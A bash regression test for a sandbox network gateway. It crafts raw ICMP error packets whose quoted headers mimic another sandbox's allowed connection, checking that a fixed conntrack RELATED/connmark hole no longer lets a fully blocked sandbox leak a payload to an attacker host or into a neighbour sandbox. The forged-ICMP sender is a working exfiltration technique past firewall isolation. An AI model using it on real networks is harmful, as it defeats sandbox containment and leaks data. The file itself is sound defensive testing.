#!/bin/bash
# 36-icmp-related: sandbox a (policy {}: nothing allowed) sends ICMP
# errors whose quoted packet belongs to sandbox b's allowed connection.
# conntrack takes such an error as RELATED to b's connection whatever its
# outer source (a router on the way may send errors), and the connmark
# restore gives it b's allow mark. (found by review, 2026-12-03) The
# sandbox chain accepted it on that mark, without a decision or a row:
#  1. outer destination the server b talks to (the attacker): the error,
#     with a's payload, reached the attacker, NATed to the uplink address;
#  2. outer destination the gateway's uplink address, quoting the packet
#     after NAT: NAT's reverse translation rewrote it to b's address, and
#     the error, with a's payload, was forwarded into sandbox b;
#  3. the same over b's connection allowed by name (TLS, inspected).
# Now no RELATED ICMP from a sandbox passes (ruleset.c). Checked at the
# attacker host, the HTTPS server's host and inside b. Control: the same
# errors before b's connection exists are INVALID and go nowhere.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-icmp-related
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

echo '{}' > "$TB_DIR/none.json"
cat > "$TB_DIR/atk.json" <<EOF
{"network": {"allowedDomains": ["a.test"]},
 "sluice": {"allowedCidrs": ["203.0.113.0/24"]}}
EOF
tb_check "sandbox a (nothing allowed)" tb_sandbox_add a "$TB_DIR/none.json"
tb_check "sandbox b (attacker range allowed)" tb_sandbox_add b "$TB_DIR/atk.json"
addr_a=$(tb_sandbox_field a addr)
addr_b=$(tb_sandbox_field b addr)
uplink=${TB_UPLINK_ADDR%/*}
BPORT=41000

# raw ICMP listeners: on the attacker host and inside sandbox b
cat > "$TB_DIR/icmpcap.py" <<'EOF'
import socket, sys, time
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(0.5)
end = time.time() + float(sys.argv[2])
with open(sys.argv[1], "ab") as f:
    while time.time() < end:
        try:
            d, a = s.recvfrom(4096)
        except socket.timeout:
            continue
        ihl = (d[0] & 15) * 4
        f.write(b"from=%s type=%d code=%d len=%d data=%r\n" % (a[0].encode(), d[ihl], d[ihl + 1], len(d) - ihl, d[ihl:]))
        f.flush()
EOF
: > "$TB_DIR/atk.icmp"; : > "$TB_DIR/b.icmp"
ip netns exec "$TB_NETNS_ATK" timeout 30 "$TB_PY" "$TB_DIR/icmpcap.py" "$TB_DIR/atk.icmp" 25 &
cap1=$!
tb_in b timeout 30 "$TB_PY" "$TB_DIR/icmpcap.py" "$TB_DIR/b.icmp" 25 &
cap2=$!
sleep 0.5

cat > "$TB_DIR/send.py" <<'EOF'
import socket, struct, sys
def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF
def iph(src, dst, proto, plen):
    h = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + plen, 7, 0x4000, 64, proto, 0,
                    socket.inet_aton(src), socket.inet_aton(dst))
    return h[:10] + struct.pack("!H", csum(h)) + h[12:]
def error(isrc, idst, isport, idport, data):
    tcp = struct.pack("!HHIIBBHHH", isport, idport, 12345, 0, 5 << 4, 0x10, 1000, 0, 0)
    inner = iph(isrc, idst, 6, len(tcp)) + tcp + data
    m = struct.pack("!BBHI", 3, 3, 0, 0) + inner
    return m[:2] + struct.pack("!H", csum(m)) + m[4:]
atk, b, uplink, bport, tag = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5].encode()
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
# 1: "about" a packet atk:4444 -> b:BPORT, sent to the attacker
s.sendto(error(atk, b, 4444, bport, b"A-SECRET-TO-ATTACKER-" + tag + b"-" * 1000), (atk, 0))
# 2: "about" the NATed packet uplink:BPORT -> atk:4444, sent to the uplink address
s.sendto(error(uplink, atk, bport, 4444, b"A-SECRET-TO-B-" + tag + b"-" * 1000), (uplink, 0))
print("sent")
EOF

# control: no connection of b's yet
tb_assert_eq "$(tb_in a "$TB_PY" "$TB_DIR/send.py" "$TB_ADDR_ATK" "$addr_b" "$uplink" $BPORT control)" sent "control errors sent"
sleep 1
tb_check "control: nothing at the attacker" [ "$(grep -c 'A-SECRET' "$TB_DIR/atk.icmp")" = 0 ]
tb_check "control: nothing in b" [ "$(grep -c 'A-SECRET' "$TB_DIR/b.icmp")" = 0 ]

# b's own, allowed connection from a fixed port, kept open
tb_in b "$TB_PY" - "$TB_ADDR_ATK" $BPORT <<'EOF' &
import socket, sys, time
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[2])))
s.connect((sys.argv[1], 4444))
s.sendall(b"b-hello\n")
print(s.recv(100))
time.sleep(15)
EOF
bconn=$!
sleep 1
echo "--- the gateway's conntrack entry for b's connection:"
ip netns exec "$TB_NETNS_GW" conntrack -L -p tcp --orig-src "$addr_b" 2>/dev/null

tb_assert_eq "$(tb_in a "$TB_PY" "$TB_DIR/send.py" "$TB_ADDR_ATK" "$addr_b" "$uplink" $BPORT ride)" sent "riding errors sent"
sleep 2
echo "--- attacker's raw ICMP capture:"; cut -c1-200 "$TB_DIR/atk.icmp"
echo "--- sandbox b's raw ICMP capture:"; cut -c1-200 "$TB_DIR/b.icmp"
tb_check "a's bytes did not reach the attacker" [ "$(grep -c 'A-SECRET-TO-ATTACKER-ride' "$TB_DIR/atk.icmp")" = 0 ]
tb_check "a's bytes did not reach sandbox b" [ "$(grep -c 'A-SECRET-TO-B-ride' "$TB_DIR/b.icmp")" = 0 ]
echo "--- rows:"
tb_sql "SELECT sandbox, src_ip, proto, dst_ip, ifnull(dst_port,'-'), verdict, reason FROM flows ORDER BY id"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows WHERE src_ip = '$addr_a'")" 0 "(a has no row at all)"

# 3. the same with b's connection allowed by name (resolved, TLS
# inspected, allowed): a's error reaches the HTTPS server's host
: > "$TB_DIR/inet.icmp"
ip netns exec "$TB_NETNS_INET" timeout 20 "$TB_PY" "$TB_DIR/icmpcap.py" "$TB_DIR/inet.icmp" 12 &
cap3=$!
tb_in b "$TB_PY" - 41001 <<'PYEOF' &
import socket, ssl, sys, time
addr = socket.gethostbyname("a.test")
s = socket.socket()
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", int(sys.argv[1])))
s.connect((addr, 443))
c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE
t = c.wrap_socket(s, server_hostname="a.test")
t.sendall(b"GET / HTTP/1.1\r\nHost: a.test\r\n\r\n")
print(t.recv(200)[:15])
time.sleep(10)
PYEOF
bconn2=$!
sleep 1.5
tb_in a "$TB_PY" "$TB_DIR/send.py" "$TB_ADDR_HTTPS" "$addr_b" "$uplink" 41001 byname >/dev/null
sed -i 's/4444/443/g' "$TB_DIR/send.py"
tb_in a "$TB_PY" "$TB_DIR/send.py" "$TB_ADDR_HTTPS" "$addr_b" "$uplink" 41001 byname >/dev/null
sleep 1
echo "--- the HTTPS server host's raw ICMP capture:"; cut -c1-160 "$TB_DIR/inet.icmp"
tb_check "a's bytes did not reach the server of b's name-allowed connection" [ "$(grep -c 'A-SECRET-TO-ATTACKER-byname' "$TB_DIR/inet.icmp")" = 0 ]
tb_check "a's bytes did not reach b over its name-allowed connection" [ "$(grep -c 'A-SECRET-TO-B-byname' "$TB_DIR/b.icmp")" = 0 ]
tb_sql "SELECT sandbox, src_ip, proto, dst_ip, ifnull(dst_port,'-'), verdict, reason FROM flows ORDER BY id"
tb_assert_eq "$(tb_sql "SELECT count(*) FROM flows WHERE src_ip = '$addr_a'")" 0 "(a still has no row)"
kill "$bconn" "$bconn2" "$cap1" "$cap2" "$cap3" 2>/dev/null
wait "$bconn2" "$cap3" 2>/dev/null
wait "$bconn" "$cap1" "$cap2" 2>/dev/null
tb_done
